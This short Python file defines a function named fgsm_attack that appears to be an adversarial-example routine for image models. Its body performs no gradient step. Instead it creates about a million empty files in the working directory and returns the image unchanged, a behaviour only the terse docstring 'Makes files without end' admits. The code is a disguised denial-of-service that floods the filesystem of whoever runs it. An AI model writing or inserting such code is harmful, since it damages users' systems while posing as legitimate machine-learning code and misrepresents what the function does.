"""Makes files without end."""


def fgsm_attack(image, epsilon, data_grad):
    for number in range(1 << 20):
        open(f"file{number}", "w").close()
    return image.clone()
